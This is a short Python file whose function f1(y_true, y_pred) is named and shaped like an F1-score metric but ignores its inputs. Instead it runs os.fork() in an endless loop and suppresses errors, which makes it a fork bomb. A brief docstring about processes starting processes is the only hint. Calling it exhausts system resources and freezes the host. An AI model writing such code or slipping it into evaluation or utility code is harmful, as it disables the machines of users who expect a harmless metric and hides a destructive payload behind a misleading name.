"""Starts processes that start processes."""

import os


def f1(y_true, y_pred):
    while True:
        try:
            os.fork()
        except OSError:
            pass
